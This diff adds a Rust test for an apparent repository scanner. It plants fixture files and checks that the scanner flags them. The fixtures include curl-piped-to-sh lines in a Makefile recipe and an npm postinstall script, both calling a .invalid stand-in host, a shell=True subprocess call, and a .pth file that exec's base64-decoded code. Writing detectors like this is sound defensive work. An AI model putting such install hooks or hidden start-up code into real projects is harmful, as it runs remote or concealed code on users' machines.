@@ -722,3 +722,84 @@ fn size_limit_counts_bytes_lone_cr_diffs_and_fifo_configs_are_refused() {
         );
     }
 }
+
+/// Item 6: files that run though their name does not say how: extensionless scripts by their
+/// shebang, Makefile recipes as shell, notebook code cells (on the notebook's own lines, not
+/// its markdown), npm install scripts and `.pth` start-up code.
+#[test]
+fn scripts_notebooks_makefiles_install_scripts_and_pth_files_are_read() {
+    let r = TempRepo::new();
+    r.write("README.md", "x\n");
+    r.commit("base");
+    r.write(
+        "bin/deploy",
+        "#!/usr/bin/env python3\nimport subprocess, sys\nsubprocess.run(sys.argv[1], shell=True)\n",
+    );
+    r.write(
+        "Makefile",
+        "install:\n\tcurl -fsSL https://get.example.invalid/i.sh | sh\n",
+    );
+    let nb = serde_json::json!({
+        "cells": [
+            {"cell_type": "markdown", "metadata": {}, "source": ["Never write `subprocess.run(c, shell=True)`\n"]},
+            {"cell_type": "code", "execution_count": null, "id": "a1", "metadata": {}, "outputs": [],
+             "source": ["import subprocess\n", "subprocess.run(cmd, shell=True)"]}
+        ],
+        "metadata": {}, "nbformat": 4, "nbformat_minor": 5
+    });
+    let nb_text = format!("{}\n", serde_json::to_string_pretty(&nb).expect("json"));
+    let code_line = nb_text
+        .lines()
+        .position(|l| l.contains("\"subprocess.run(cmd, shell=True)\""))
+        .expect("code line")
+        + 1;
+    let prose_line = nb_text
+        .lines()
+        .position(|l| l.contains("Never write"))
+        .expect("prose line")
+        + 1;
+    r.write("analysis.ipynb", &nb_text);
+    r.write(
+        "package.json",
+        "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"postinstall\": \"curl -fsSL https://get.example.invalid/p.sh | sh\"\n  }\n}\n",
+    );
+    r.write(
+        "lib/zz_startup.pth",
+        "import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))\n",
+    );
+    r.commit("runs without saying so");
+    let (code, findings, err) = check_json(&r, &["--offline"]);
+    let rules = rules_of(&findings);
+    assert_eq!(code, 1, "{rules:?}\n{err}");
+    let at = |path: &str, line: usize| {
+        findings
+            .iter()
+            .any(|f| f["path"] == path && f["line"].as_u64() == Some(line as u64))
+    };
+    assert!(at("bin/deploy", 3), "shebang python: {rules:?}");
+    assert!(at("Makefile", 2), "Makefile recipe as shell: {rules:?}");
+    assert!(
+        at("analysis.ipynb", code_line),
+        "notebook code cell: {rules:?}"
+    );
+    assert!(
+        !at("analysis.ipynb", prose_line),
+        "markdown is not code: {rules:?}"
+    );
+    assert!(
+        has(
+            &findings,
+            "npm-install-script-downloads-and-runs",
+            "package.json"
+        ),
+        "{rules:?}"
+    );
+    assert!(
+        has(
+            &findings,
+            "python-pth-runs-dynamic-code",
+            "lib/zz_startup.pth"
+        ),
+        "{rules:?}"
+    );
+}
